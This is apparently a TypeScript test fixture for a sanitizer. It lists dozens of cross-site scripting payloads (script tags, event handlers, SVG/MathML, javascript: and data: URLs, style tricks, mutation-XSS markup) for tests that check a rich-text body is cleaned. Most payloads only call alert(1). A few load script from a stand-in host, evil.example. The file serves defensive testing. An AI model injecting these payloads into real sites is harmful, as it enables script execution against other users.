// Script-injection attempts against the rich-text body. The sanitizer tests run them through
// sanitizeBody; the end-to-end tests paste and submit them in a real browser.

// btoa, not Buffer: the list is also used from browser-side test code.
const SVG_BASE64 = btoa(
	'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
);
const HTML_BASE64 = btoa('<script>alert(1)</script>');
const PNG_1X1 =
	'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAACXBIWXMAAAPoAAAD6AG1e1JrAAAAFUlEQVQI12P4z8DAsACIGf7///8fAByXBZzc4LtrAAAAAElFTkSuQmCC';

export const xssPayloads: string[] = [
	// Script elements, whole and broken up
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<<script>script>alert(1)<</script>/script>',
	'"><script>alert(1)</script>',
	'<p>text</p><script type="module">import("//evil.example")</script>',
	// Event handlers
	'<img src=x onerror=alert(1)>',
	'<img src="x" onerror="alert(1)">',
	'<img/src="x"/onerror=alert(1)>',
	'<IMG SRC=x ONERROR=alert(1)>',
	'<img src="ustat-image:1" onload="alert(1)">',
	`<img src="data:image/png;base64,${PNG_1X1}" onerror="alert(1)">`,
	'<p onclick="alert(1)">click</p>',
	'<h1 onmouseover=alert(1)>title</h1>',
	'<a href="https://example.kg" onclick="alert(1)">link</a>',
	'<body onload=alert(1)>',
	'<details open ontoggle=alert(1)>x</details>',
	'<video><source onerror=alert(1)></video>',
	'<audio src=x onerror=alert(1)></audio>',
	'<marquee onstart=alert(1)>x</marquee>',
	'<input onfocus=alert(1) autofocus>',
	'<xss id=x tabindex=1 onfocus=alert(1)></xss>',
	'<ol start="1 onclick=alert(1)"><li>x</li></ol>',
	'<table><tr><td colspan="2 onmouseover=alert(1)">x</td></tr></table>',
	'<strong onmouseover=alert(1)>bold</strong>',
	// SVG and MathML
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<math href="javascript:alert(1)">x</math>',
	'<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
	// javascript: links, with encodings, whitespace and entities
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JaVaScRiPt:alert(1)">x</a>',
	'<a href="  javascript:alert(1)">x</a>',
	'<a href="java\nscript:alert(1)">x</a>',
	'<a href="java\tscript:alert(1)">x</a>',
	'<a href="jav&#x09;ascript:alert(1)">x</a>',
	'<a href="jav&#x0A;ascript:alert(1)">x</a>',
	'<a href="jav&#x0D;ascript:alert(1)">x</a>',
	'<a href="&#x6A;avascript:alert(1)">x</a>',
	'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
	'<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
	'<a href="javascript&colon;alert(1)">x</a>',
	'<a href="\u0001javascript:alert(1)">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="//evil.example/">protocol-relative</a>',
	'<a href="https://example.kg/&quot;onmouseover=&quot;alert(1)">x</a>',
	'<a href="https://example.kg" target="_self" rel="opener">x</a>',
	'<IMG SRC=JaVaScRiPt:alert(1)>',
	'<img src=`javascript:alert(1)`>',
	// data: URLs that are not pictures
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	`<a href="data:text/html;base64,${HTML_BASE64}">x</a>`,
	`<img src="data:image/svg+xml;base64,${SVG_BASE64}">`,
	'<img src="data:image/svg+xml,<svg onload=alert(1)>">',
	'<img src="data:image/png;base64,<script>alert(1)</script>">',
	'<img src="data:text/html;base64,PHNjcmlwdD4=">',
	// Frames, objects, forms
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="javascript:alert(1)"></object>',
	`<embed src="data:text/html;base64,${HTML_BASE64}">`,
	'<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
	'<form><input type="submit" formaction="javascript:alert(1)"></form>',
	'<isindex action="javascript:alert(1)" type="image">',
	// Style
	'<style>body{background:url("javascript:alert(1)")}</style>',
	"<style>@import 'javascript:alert(1)';</style>",
	'<div style="background:url(javascript:alert(1))">x</div>',
	'<p style="width: expression(alert(1))">x</p>',
	'<p style="behavior: url(xss.htc)">x</p>',
	'<link rel="stylesheet" href="javascript:alert(1)">',
	'<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
	// Document-level tags
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<base href="javascript:alert(1)//">',
	'<template><img src=x onerror=alert(1)></template>',
	// Parser differentials (mXSS): markup that re-parses into something else
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></textarea></mtext></svg></mglyph></mi></math>',
	'<!--<img src="--><img src=x onerror=alert(1)//">',
	'<textarea><img src=x onerror=alert(1)></textarea>',
	'<title><img src=x onerror=alert(1)></title>',
	'<xmp><img src=x onerror=alert(1)></xmp>',
	'<p><![CDATA[<img src=x onerror=alert(1)>]]></p>',
	'<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'
];
